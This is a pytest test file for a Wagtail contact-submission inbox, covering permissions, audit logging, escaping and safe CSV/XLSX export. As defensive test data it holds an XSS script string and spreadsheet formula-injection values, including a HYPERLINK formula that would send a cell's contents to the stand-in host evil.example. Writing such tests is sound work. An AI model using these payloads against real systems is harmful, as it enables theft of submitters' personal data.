"""The contact inbox in the Wagtail admin: who may see what, and the audit trail."""

import csv
import datetime
import io
import re
import zoneinfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.models import ModelLogEntry

from forms.models import ContactSubmission, SubmissionNote
from tests.factories import sign_in_verified

from .conftest import valid_answers

HOSTILE = "<script>alert('x')</script>"


def url(name, *args):
    return reverse(f"wagtailsnippets_forms_contactsubmission:{name}", args=args)


@pytest.fixture
def submission(contact_page):
    return ContactSubmission.objects.create(
        page=contact_page,
        form_data={
            "name": HOSTILE,
            "email": "jordan@example.org",
            "message": f"{HOSTILE}\nSecond line",
            "phone": "=1+1",
        },
        email="jordan@example.org",
        service="Peer groups",
    )


def logged(submission, action):
    return ModelLogEntry.objects.filter(object_id=str(submission.pk), action=action)


def admin_urls(submission):
    return {
        "listing": url("list"),
        "detail": url("inspect", submission.pk),
        "export": url("list") + "?export=csv",
        "edit": url("edit", submission.pk),
        "delete": url("delete", submission.pk),
        "erase": url("erase"),
        "chooser": reverse("wagtailsnippetchoosers_forms_contactsubmission:choose"),
        "wagtail form listing": reverse("wagtailforms:list_submissions", args=[submission.page_id]),
    }


@pytest.mark.parametrize(
    "who, allowed",
    [
        ("anonymous", set()),
        ("editor", set()),
        ("intake", {"listing", "detail", "export", "edit", "delete", "erase", "chooser"}),
        ("superuser", {"listing", "detail", "export", "edit", "delete", "erase", "chooser"}),
    ],
)
def test_only_intake_and_superusers_reach_submissions(client, submission, make_user, who, allowed):
    if who != "anonymous":
        sign_in_verified(
            client,
            make_user(
                who,
                group={"editor": "Editors", "intake": "Intake"}.get(who),
                superuser=who == "superuser",
            ),
        )
    for name, address in admin_urls(submission).items():
        response = client.get(address)
        if name in allowed:
            assert response.status_code == 200, (who, name, response.status_code)
        elif who == "anonymous":
            assert response.status_code == 302 and "/login/" in response["Location"], name
        else:
            assert response.status_code in (302, 403, 404), (who, name, response.status_code)
            assert HOSTILE not in response.content.decode(), (who, name)
            assert "jordan@example.org" not in response.content.decode(), (who, name)


def test_editor_can_still_edit_the_contact_page(client, contact_page, editor):
    sign_in_verified(client, editor)
    response = client.get(reverse("wagtailadmin_pages:edit", args=[contact_page.pk]))
    assert response.status_code == 200


def test_listing_escapes_and_logs_one_entry_per_view(client, contact_page, submission, intake_user):
    other = ContactSubmission.objects.create(page=contact_page, form_data={})
    sign_in_verified(client, intake_user)
    html = client.get(url("list")).content.decode()
    assert HOSTILE not in html
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in html
    entry = ModelLogEntry.objects.get(action="forms.submission.listed")
    assert entry.user == intake_user
    assert sorted(entry.data["shown"]) == sorted([submission.pk, other.pk])
    client.get(url("list") + "?status=new")
    assert ModelLogEntry.objects.filter(action="forms.submission.listed").count() == 2
    assert ModelLogEntry.objects.latest("pk").data["query"] == {"status": "new"}


def test_site_history_shows_the_inbox_listings(client, submission, intake_user, superuser):
    sign_in_verified(client, intake_user)
    client.get(url("list"))
    sign_in_verified(client, superuser)
    response = client.get(reverse("wagtailadmin_reports:site_history"))
    assert response.status_code == 200
    assert "The inbox listing was shown" in response.content.decode()


def test_detail_escapes_and_logs_the_view(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    html = client.get(url("inspect", submission.pk)).content.decode()
    assert HOSTILE not in html
    assert "&lt;script&gt;" in html
    assert "Second line" in html
    assert logged(submission, "forms.submission.viewed").get().user == intake_user


def test_listing_filters_and_search(client, contact_page, submission, intake_user):
    closed = ContactSubmission.objects.create(
        page=contact_page,
        form_data={"name": "Sam"},
        email="sam@example.org",
        status=ContactSubmission.Status.CLOSED,
    )
    sign_in_verified(client, intake_user)

    def listed(query):
        return set(client.get(url("list") + query).context["object_list"])

    assert listed("?status=closed") == {closed}
    assert listed("?service=Peer+groups") == {submission}
    assert listed("?email=SAM@example.org") == {closed}
    assert listed("?q=sam") == {closed}
    assert listed("?submit_time_from=2000-01-01") == {closed, submission}
    assert listed("?submit_time_to=2000-01-01") == set()


def test_csv_export_neutralises_formulas_and_logs(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    response = client.get(url("list") + "?export=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0]["Name"] == HOSTILE
    assert rows[0]["Phone"] == "'=1+1"
    assert logged(submission, "forms.submission.exported").get().data == {"format": "csv"}


def test_xlsx_export_neutralises_formulas_and_logs(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    response = client.get(url("list") + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, first = list(sheet.iter_rows(values_only=True))[:2]
    row = dict(zip(header, first, strict=True))
    assert row["Name"] == HOSTILE
    assert row["Phone"] == "'=1+1"
    assert logged(submission, "forms.submission.exported").exists()


def test_export_needs_its_own_permission(client, submission, make_user):
    from django.contrib.auth.models import Group, Permission

    readers = Group.objects.create(name="Readers")
    readers.permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(codename="view_contactsubmission"),
    )
    sign_in_verified(client, make_user("reader", group="Readers"))
    assert client.get(url("list")).status_code == 200
    denied = client.get(url("list") + "?export=csv")
    assert denied.status_code == 302 and denied["Location"] == reverse("wagtailadmin_home")
    assert not logged(submission, "forms.submission.exported").exists()


def test_status_change_and_note_are_saved_and_logged(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    response = client.post(
        url("edit", submission.pk),
        {"status": "in_progress", "assignee": intake_user.pk, "note": "Called back, <b>ok</b>"},
    )
    assert response.status_code == 302
    submission.refresh_from_db()
    assert submission.status == "in_progress"
    assert submission.assignee == intake_user
    note = SubmissionNote.objects.get()
    assert (note.author, note.text) == (intake_user, "Called back, <b>ok</b>")
    change = logged(submission, "forms.submission.status_changed").get()
    assert change.data == {"from": "new", "to": "in_progress"}
    assert change.user == intake_user
    assert logged(submission, "forms.submission.note_added").get().user == intake_user
    html = client.get(url("inspect", submission.pk)).content.decode()
    assert "Called back, &lt;b&gt;ok&lt;/b&gt;" in html


def test_assignee_must_be_someone_who_may_read_submissions(client, submission, intake_user, editor):
    sign_in_verified(client, intake_user)
    response = client.post(url("edit", submission.pk), {"status": "new", "assignee": editor.pk})
    assert response.status_code == 200
    submission.refresh_from_db()
    assert submission.assignee is None


def test_bulk_status_change(client, contact_page, submission, intake_user):
    other = ContactSubmission.objects.create(page=contact_page, form_data={})
    sign_in_verified(client, intake_user)
    action = reverse("wagtail_bulk_action", args=["forms", "contactsubmission", "change_status"])
    query = f"?id={submission.pk}&id={other.pk}"
    confirmation = client.get(action + query).content.decode()
    assert "Set a new status on these submissions" in confirmation
    assert 'name="status"' in confirmation
    response = client.post(action + query, {"status": "closed"})
    assert response.status_code == 302
    assert set(ContactSubmission.objects.values_list("status", flat=True)) == {"closed"}
    assert logged(other, "forms.submission.status_changed").get().user == intake_user


def test_bulk_assign_to_me(client, contact_page, submission, make_user):
    worker = make_user("worker", group="Intake")
    other = ContactSubmission.objects.create(page=contact_page, form_data={}, assignee=worker)
    sign_in_verified(client, worker)
    action = reverse("wagtail_bulk_action", args=["forms", "contactsubmission", "assign_to_me"])
    query = f"?id={submission.pk}&id={other.pk}"
    assert "Assign these submissions to you" in client.get(action + query).content.decode()
    response = client.post(action + query)
    assert response.status_code == 302
    assert set(ContactSubmission.objects.values_list("assignee", flat=True)) == {worker.pk}
    assert logged(submission, "forms.submission.assigned").get().user == worker
    assert not logged(other, "forms.submission.assigned").exists()


def test_bulk_delete_is_logged(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    action = reverse("wagtail_bulk_action", args=["forms", "contactsubmission", "delete"])
    response = client.post(f"{action}?id={submission.pk}")
    assert response.status_code == 302
    assert not ContactSubmission.objects.exists()
    assert logged(submission, "wagtail.delete").get().user == intake_user


def test_single_delete_is_logged(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    assert client.post(url("delete", submission.pk)).status_code == 302
    assert not ContactSubmission.objects.exists()
    assert logged(submission, "wagtail.delete").get().user == intake_user


def test_erase_everything_from_one_address(client, contact_page, submission, intake_user):
    kept = ContactSubmission.objects.create(page=contact_page, form_data={}, email="x@example.org")
    SubmissionNote.objects.create(submission=submission, author=intake_user, text="n")
    ContactSubmission.objects.create(page=contact_page, form_data={}, email="JORDAN@example.org")
    sign_in_verified(client, intake_user)

    found = client.post(url("erase"), {"email": "jordan@example.org"})
    assert found.context["match_count"] == 2
    assert ContactSubmission.objects.count() == 3

    erased = client.post(url("erase"), {"email": "jordan@example.org", "confirm": "on"})
    assert erased.status_code == 302
    assert list(ContactSubmission.objects.all()) == [kept]
    assert not SubmissionNote.objects.exists()
    assert logged(submission, "forms.submission.erased").get().user == intake_user


def test_dashboard_counts_new_submissions_for_intake_only(client, contact_page, make_user):
    for status in ("new", "new", "closed", "spam"):
        ContactSubmission.objects.create(page=contact_page, form_data={}, status=status)
    sign_in_verified(client, make_user("intake", group="Intake"))
    assert "2 new submissions" in client.get(reverse("wagtailadmin_home")).content.decode()
    sign_in_verified(client, make_user("editor", group="Editors"))
    assert "new submission" not in client.get(reverse("wagtailadmin_home")).content.decode()


def test_submission_from_the_form_appears_in_the_inbox(client, contact_page, intake_user):
    client.post(contact_page.url, valid_answers())
    sign_in_verified(client, intake_user)
    assert client.get(url("list")).context["object_list"][0].email == "jordan@example.org"


def test_listing_queries_do_not_grow_with_the_number_of_submissions(
    client, contact_page, intake_user
):
    sign_in_verified(client, intake_user)

    def queries_for_listing(count):
        ContactSubmission.objects.all().delete()
        for n in range(count):
            ContactSubmission.objects.create(
                page=contact_page, form_data={"name": f"N{n}"}, assignee=intake_user
            )
        client.get(url("list"))  # warms what is cached until the next change (the site)
        with CaptureQueriesContext(connection) as context:
            assert client.get(url("list")).status_code == 200
        return len(context.captured_queries)

    few, many = queries_for_listing(3), queries_for_listing(30)
    print(f"\ninbox listing: {few} queries for 3 submissions, {many} for 30")
    assert few == many


def test_listing_names_the_sender_when_editors_renamed_the_name_field(
    client, contact_page, intake_user
):
    ContactSubmission.objects.create(page=contact_page, form_data={"your_name": "Rosa Díaz"})
    sign_in_verified(client, intake_user)
    assert "Rosa Díaz" in client.get(url("list")).content.decode()


FORMULA_LABEL = '=HYPERLINK("http://evil.example/?"&E2,"Phone")'


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_headings_from_field_labels_cannot_run(
    client, submission, intake_user, export_format
):
    """Editors who may not read submissions still write the form's labels, which head
    the export's columns: a label written as a formula stays text."""
    phone = submission.page.specific.form_fields.get(clean_name="phone")
    phone.label = FORMULA_LABEL
    phone.save()
    sign_in_verified(client, intake_user)
    response = client.get(url("list") + f"?export={export_format}")
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        header = next(csv.reader(io.StringIO(content.decode())))
        cells = header
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        cells = [cell.value for cell in next(sheet.iter_rows())]
        assert {cell.data_type for cell in next(sheet.iter_rows())} == {"s"}
    assert "'" + FORMULA_LABEL in cells
    assert not any(str(cell).startswith("=") for cell in cells)


def test_spam_is_hidden_unless_asked_for_and_counted(client, contact_page, submission, intake_user):
    spam = ContactSubmission.objects.create(page=contact_page, form_data={}, status="spam")
    ContactSubmission.objects.create(page=contact_page, form_data={}, status="spam")
    sign_in_verified(client, intake_user)

    response = client.get(url("list"))
    assert set(response.context["object_list"]) == {submission}
    html = response.content.decode()
    assert "2 messages flagged as spam are hidden." in html
    assert f'href="{url("list")}?show_spam=on"' in html

    # The count is of the spam the listing's search and filters would otherwise show.
    ContactSubmission.objects.filter(pk=spam.pk).update(email="jordan@example.org")
    searched = client.get(url("list") + "?q=jordan").content.decode()
    assert "1 message flagged as spam is hidden." in searched
    assert "hidden-spam" not in client.get(url("list") + "?status=new").content.decode()

    shown = client.get(url("list") + "?show_spam=on")
    assert spam in shown.context["object_list"] and submission in shown.context["object_list"]
    assert "hidden-spam" not in shown.content.decode()
    only_spam = client.get(url("list") + "?status=spam")
    assert submission not in only_spam.context["object_list"]
    assert spam in only_spam.context["object_list"]
    # The export leaves spam out as the listing does.
    export = b"".join(client.get(url("list") + "?export=csv").streaming_content).decode()
    assert [row["Submission"] for row in csv.DictReader(io.StringIO(export))] == [
        str(submission.pk)
    ]


def test_unread_messages_stand_out_until_first_opened(client, submission, intake_user):
    sign_in_verified(client, intake_user)
    unread = client.get(url("list")).content.decode()
    assert re.search(rf'<strong class="submission-unread">\s*(<span[^>]*>)?{submission}', unread)
    assert ">Unread</span>" in unread

    client.get(url("inspect", submission.pk))
    submission.refresh_from_db()
    first_opened = submission.opened_at
    assert first_opened is not None
    client.get(url("inspect", submission.pk))
    submission.refresh_from_db()
    assert submission.opened_at == first_opened
    read = client.get(url("list")).content.decode()
    assert ">Unread</span>" not in read


def test_email_and_phone_are_links(client, contact_page, intake_user):
    sent = ContactSubmission.objects.create(
        page=contact_page,
        form_data={"name": "Ana", "email": "ana@example.org", "phone": "+1 (408) 555-0199"},
        email="ana@example.org",
    )
    sign_in_verified(client, intake_user)
    for address in (url("list"), url("inspect", sent.pk)):
        html = client.get(address).content.decode()
        assert '<a href="mailto:ana@example.org">ana@example.org</a>' in html, address
        assert '<a href="tel:+14085550199">+1 (408) 555-0199</a>' in html, address


def test_assign_to_me_shows_the_name_and_is_logged(client, submission, make_user):
    worker = make_user("rgarcia", group="Intake")
    worker.first_name, worker.last_name = "Rosa", "García"
    worker.save()
    sign_in_verified(client, worker)

    detail = client.get(url("inspect", submission.pk)).content.decode()
    assert "Assign to me" in detail
    assert client.get(url("assign_to_me", submission.pk)).status_code == 405
    response = client.post(url("assign_to_me", submission.pk))
    assert response.status_code == 302 and response["Location"] == url("inspect", submission.pk)
    submission.refresh_from_db()
    assert submission.assignee == worker
    assert logged(submission, "forms.submission.assigned").get().user == worker

    detail = client.get(url("inspect", submission.pk)).content.decode()
    assert "Assign to me" not in detail
    assert '<dd class="submission-assignee">Rosa García</dd>' in detail
    listing = client.get(url("list")).content.decode()
    assert "Rosa García" in listing and "rgarcia" not in listing
    edit = client.get(url("edit", submission.pk)).content.decode()
    assert "Rosa García</option>" in edit


def test_only_those_who_may_change_submissions_may_take_them(client, submission, make_user):
    sign_in_verified(client, make_user("editor", group="Editors"))
    response = client.post(url("assign_to_me", submission.pk))
    assert response.status_code in (302, 403)
    submission.refresh_from_db()
    assert submission.assignee is None


def test_filter_assigned_to_me_or_nobody(client, contact_page, submission, make_user):
    me = make_user("me", group="Intake")
    other = make_user("other", group="Intake")
    mine = ContactSubmission.objects.create(page=contact_page, form_data={}, assignee=me)
    ContactSubmission.objects.create(page=contact_page, form_data={}, assignee=other)
    sign_in_verified(client, me)
    assert list(client.get(url("list") + "?assigned=me").context["object_list"]) == [mine]
    assert list(client.get(url("list") + "?assigned=nobody").context["object_list"]) == [submission]


def test_notes_show_their_authors_name(client, submission, make_user):
    worker = make_user("jlee", group="Intake")
    worker.first_name, worker.last_name = "Jamie", "Lee"
    worker.save()
    SubmissionNote.objects.create(submission=submission, author=worker, text="Left a message.")
    sign_in_verified(client, worker)
    html = client.get(url("inspect", submission.pk)).content.decode()
    assert "<strong>Jamie Lee</strong>" in html


@pytest.mark.parametrize("zone", ["America/New_York", "America/Los_Angeles"])
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_export_gives_local_times_with_the_zone_and_names(
    client, settings, submission, make_user, zone, export_format
):
    settings.TIME_ZONE = zone
    worker = make_user("rgarcia", group="Intake")
    worker.first_name, worker.last_name = "Rosa", "García"
    worker.save()
    received = datetime.datetime(2026, 7, 1, 18, 30, 5, 123456, tzinfo=datetime.UTC)
    ContactSubmission.objects.filter(pk=submission.pk).update(submit_time=received, assignee=worker)
    local = received.astimezone(zoneinfo.ZoneInfo(zone)).replace(tzinfo=None, microsecond=0)
    sign_in_verified(client, worker)
    content = b"".join(client.get(url("list") + f"?export={export_format}").streaming_content)
    if export_format == "csv":
        row = next(csv.DictReader(io.StringIO(content.decode())))
        received_cell = row[f"Received ({zone} time)"]
        assert received_cell == local.isoformat(sep=" ")
    else:
        header, first = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))[
            :2
        ]
        row = dict(zip(header, first, strict=True))
        assert row[f"Received ({zone} time)"] == local
    assert row["Assigned to"] == "Rosa García"


def test_delete_by_email_page_is_titled(client, intake_user):
    sign_in_verified(client, intake_user)
    html = client.get(url("erase")).content.decode()
    title = re.search(r"<title>(.*?)</title>", html, re.S).group(1)
    assert " ".join(title.split()).startswith("Delete by email address: Contact inbox")
    assert re.search(r"<h1[^>]*>\s*Delete by email address", html)
    assert f'href="{url("list")}"' in html  # the breadcrumbs' way back to the inbox


def test_admin_search_leads_intake_staff_to_the_inbox(client, submission, intake_user, editor):
    sign_in_verified(client, intake_user)
    dashboard = client.get(reverse("wagtailadmin_home")).content.decode()
    form = re.search(r'<form[^>]*role="search"[^>]*>', dashboard).group(0)
    assert f'action="{url("list")}"' in form
    found = client.get(url("list"), {"q": "jordan"})
    assert list(found.context["object_list"]) == [submission]
    # The sidebar's search: Wagtail sends staff to the first search area they may see.
    sidebar = re.search(r'id="wagtail-sidebar-props"[^>]*>(.*?)</script>', dashboard).group(1)
    assert f'"wagtail.sidebar.SearchModule", "_args": ["{url("list")}"]' in sidebar

    sign_in_verified(client, editor)
    dashboard = client.get(reverse("wagtailadmin_home")).content.decode()
    form = re.search(r'<form[^>]*role="search"[^>]*>', dashboard[dashboard.index("<h1") :])
    assert url("list") not in dashboard
    assert form is not None
